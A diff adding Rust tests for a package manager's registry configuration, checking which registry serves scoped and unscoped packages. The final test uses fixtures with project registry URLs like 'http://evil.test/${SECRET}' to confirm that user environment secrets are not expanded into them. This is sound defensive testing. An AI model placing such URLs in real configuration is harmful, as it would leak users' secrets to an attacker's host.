@@ -1,0 +1,72 @@
+//! Which registry serves which package.
+
+use super::Machine;
+
+#[test]
+fn scopes_have_registries_of_their_own() {
+    let config = Machine::new()
+        .user_npmrc(
+            "registry=http://all.test\n@org:registry=http://org.test/npm\n@both:registry=http://user.test\n",
+        )
+        .project_npmrc("@both:registry=http://project.test\n")
+        .project_yaml("registries:\n  '@yaml': http://yaml.test\n")
+        .load();
+    for (name, registry) in [
+        ("is-odd", "http://all.test/"),
+        ("@org/a", "http://org.test/npm/"),
+        ("@both/a", "http://project.test/"),
+        ("@yaml/a", "http://yaml.test/"),
+        ("@unknown/a", "http://all.test/"),
+        ("@organisation/a", "http://all.test/"),
+        ("@org", "http://all.test/"),
+    ] {
+        assert_eq!(config.registries.for_package(name), registry, "{name}");
+    }
+    assert!(config.registries.for_package("@jsr/a").contains("jsr"));
+}
+
+#[test]
+fn registries_can_be_declared_by_their_urls() {
+    let config = Machine::new()
+        .project_yaml(
+            "registries:\n  http://one.test:\n    scopes: ['@', '@one']\n    prefix: one\n    serverType: npm\n",
+        )
+        .load();
+    assert_eq!(config.registries.for_package("is-odd"), "http://one.test/");
+    assert_eq!(config.registries.for_package("@one/a"), "http://one.test/");
+    assert_eq!(config.registries.prefixes["one"].value, "http://one.test/");
+    assert!(config.registries.prefixes.contains_key("gh"));
+}
+
+#[test]
+fn a_default_among_the_registries_gives_way_to_the_registry_of_its_file() {
+    let text = "registries:\n  default: http://routes.test\n";
+    let config = Machine::new()
+        .user_npmrc("registry=http://npmrc.test\n")
+        .project_yaml(text)
+        .load();
+    assert_eq!(config.registries.default.value, "http://routes.test/");
+    let config = Machine::new()
+        .project_yaml(&format!("{text}registry: http://plain.test\n"))
+        .load();
+    assert_eq!(config.registries.default.value, "http://plain.test/");
+}
+
+#[test]
+fn a_projects_registry_cannot_hold_the_users_variables() {
+    for machine in [
+        Machine::new().project_npmrc("registry=http://evil.test/${SECRET}\n"),
+        Machine::new().project_npmrc("@org:registry=http://${SECRET}.evil.test/\n"),
+        Machine::new().project_yaml("registry: http://evil.test/${SECRET}\n"),
+        Machine::new().project_yaml("registries:\n  '@org': http://evil.test/${SECRET}\n"),
+    ] {
+        let error = machine.variable("SECRET", "s3cret").try_load().unwrap_err();
+        assert_eq!(error.code(), Some("ERR_PNPM_REGISTRY_ENV_NOT_EXPANDED"));
+        assert!(!error.to_string().contains("s3cret"), "{error}");
+    }
+    let config = Machine::new()
+        .variable("PORT", "81")
+        .user_npmrc("registry=http://mine.test:${PORT}\n")
+        .load();
+    assert_eq!(config.registries.default.value, "http://mine.test:81/");
+}
